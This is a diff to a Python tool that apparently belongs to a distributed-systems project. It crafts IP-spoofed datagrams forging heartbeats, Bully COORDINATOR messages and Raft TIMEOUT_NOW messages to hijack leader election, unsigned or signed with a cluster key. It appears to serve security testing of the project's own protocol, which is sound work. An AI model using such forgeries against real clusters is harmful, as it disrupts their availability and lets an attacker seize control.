@@ -13,6 +13,11 @@ IPv4 socket (IP_HDRINCL) puts the claimed sender's roster address in the IP head
                      (docs/security.md), so a receiver takes it for a restart of the
                      leader; counter 1 (a fresh replay window)
   far-term-heartbeat the same, with the term 1 000 000 ahead
+  coordinator        (Bully family) a COORDINATOR "from" --sender (any member, not
+                     the leader) naming itself leader with the epoch --term + 1; a
+                     reliable body (seq 1 of the new incarnation)
+  timeout-now        (Raft) a TIMEOUT_NOW "from" the leader --sender of term --term:
+                     the receiver would campaign at once (a forged transfer)
 
 Without --key the datagram is insecure (no tag, key_id 0: the insecure variant); with
 --key (a cluster key file) it is signed as an insider would (docs/wire.md §4). The
@@ -25,6 +30,7 @@ import socket
 import struct
 import time
 
+KINDS = ["future-heartbeat", "far-term-heartbeat", "coordinator", "timeout-now"]
 ALGORITHMS = {"bully": 1, "improved-bully": 2, "ring": 3, "lcr": 4, "hs": 5, "raft": 6}
 
 
@@ -51,18 +57,21 @@ def field_bytes(num, data, always=False):
 
 
 def envelope(cluster, sender, incarnation, algorithm, body_num, body, counter, receiver,
-             key=None):
-    """Canonical encoding (fields ascending, defaults omitted), signed if key given."""
+             key=None, seq=0):
+    """Canonical encoding (every field in ascending field number, defaults omitted:
+    wire.md §3, so a body numbered 29-31 comes after `receiver`), signed if key given."""
     key_id = 0
     if key is not None:
         key_id = int.from_bytes(hashlib.sha256(key).digest()[:4], "big") or 1
 
     def encode(tag):
-        return (field_varint(1, 1) + field_bytes(2, cluster.encode()) + field_varint(3, sender)
-                + field_varint(4, incarnation) + field_varint(7, algorithm)
-                + field_bytes(8, tag) + field_varint(9, key_id)
-                + field_bytes(body_num, body, always=True)
-                + field_varint(27, counter) + field_varint(28, receiver))
+        fields = [(1, field_varint(1, 1)), (2, field_bytes(2, cluster.encode())),
+                  (3, field_varint(3, sender)), (4, field_varint(4, incarnation)),
+                  (5, field_varint(5, seq)), (7, field_varint(7, algorithm)),
+                  (8, field_bytes(8, tag)), (9, field_varint(9, key_id)),
+                  (body_num, field_bytes(body_num, body, always=True)),
+                  (27, field_varint(27, counter)), (28, field_varint(28, receiver))]
+        return b"".join(b for _, b in sorted(fields, key=lambda f: f[0]))
 
     if key is None:
         return encode(b"")
@@ -103,7 +112,7 @@ def send_spoofed(src, dst, port, payload):
 
 def main():
     p = argparse.ArgumentParser()
-    p.add_argument("kind", choices=["future-heartbeat", "far-term-heartbeat"])
+    p.add_argument("kind", choices=KINDS)
     for a in ("--src", "--dst", "--cluster", "--algorithm"):
         p.add_argument(a, required=True)
     for a in ("--port", "--sender", "--receiver", "--term"):
@@ -113,9 +122,19 @@ def main():
     key = read_key(args.key) if args.key else None
     incarnation = int(time.time() * 1e6) + 9_000_000
     term = args.term + (1_000_000 if args.kind == "far-term-heartbeat" else 0)
+    seq, num = 0, 23
     body = field_varint(1, term) + field_varint(2, args.sender)  # Heartbeat {term, leader}
-    dgram = envelope(args.cluster, args.sender, incarnation, ALGORITHMS[args.algorithm], 23,
-                     body, 1, args.receiver, key)
+    if args.kind == "coordinator":  # Coordinator {leader, epoch, tag {initiator, seq}}
+        term = args.term + 1
+        tag = field_varint(1, args.sender) + field_varint(2, (incarnation << 12) | 1)
+        body = (field_varint(1, args.sender) + field_varint(2, term)
+                + field_bytes(3, tag, always=True))
+        seq, num = 1, 12
+    elif args.kind == "timeout-now":  # TimeoutNow {term}
+        body = field_varint(1, term)
+        seq, num = 1, 29
+    dgram = envelope(args.cluster, args.sender, incarnation, ALGORITHMS[args.algorithm], num,
+                     body, 1, args.receiver, key, seq=seq)
     send_spoofed(args.src, args.dst, args.port, dgram)
     print(f"sent {args.kind} {args.src}->{args.dst} {args.algorithm} term {term} "
           f"incarnation {incarnation} ({len(dgram)} bytes, {'signed' if key else 'insecure'})")
